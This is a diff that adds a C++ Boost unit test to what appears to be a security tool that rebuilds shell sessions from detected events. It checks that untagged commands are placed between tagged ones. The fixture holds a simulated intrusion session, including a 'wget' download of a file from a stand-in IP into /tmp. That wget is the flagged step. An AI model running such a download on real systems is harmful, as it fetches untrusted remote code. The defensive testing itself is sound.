@@ -74,6 +74,28 @@ BOOST_AUTO_TEST_CASE(the_tags_of_an_event_are_one_step_of_its_session) {
     BOOST_TEST(!story.is_cut);
 }
 
+BOOST_AUTO_TEST_CASE(an_untagged_event_is_a_step_between_the_tagged_ones) {
+    story_builder builder({});
+    auto const tagged = seen_tag("s1", 2, "cut short");
+    builder.add(tagged, *tagged.observed_at);
+    auto const say = [&](std::string id, int second, std::string typed) {
+        return builder.add(
+            {"s1", tagged.source_kind, std::move(id), report_start + std::chrono::seconds{second}, std::move(typed)});
+    };
+    say("c0", 0, "cd /tmp");
+    say(tagged.source_id, 2, "wget http://192.0.2.1/x");
+    say("c9", 3, "exit");
+    auto const story = builder.take();
+    BOOST_TEST(story.has_untagged);
+    BOOST_REQUIRE_EQUAL(story.steps.size(), 3u);
+    BOOST_TEST(story.steps[0].typed == "cd /tmp");
+    BOOST_TEST(story.steps[0].found.empty());
+    BOOST_TEST(story.steps[1].typed == "wget http://192.0.2.1/x"); // the whole line, not the evidence of one rule
+    BOOST_TEST(story.steps[1].found.size() == 1u);
+    BOOST_TEST(story.steps[2].typed == "exit");
+    BOOST_TEST(!story.is_cut);
+}
+
 BOOST_AUTO_TEST_CASE(text_of_a_step_comes_from_any_of_its_tags) {
     story_builder builder({});
     auto silent = test::seen_tag("s1", 5);
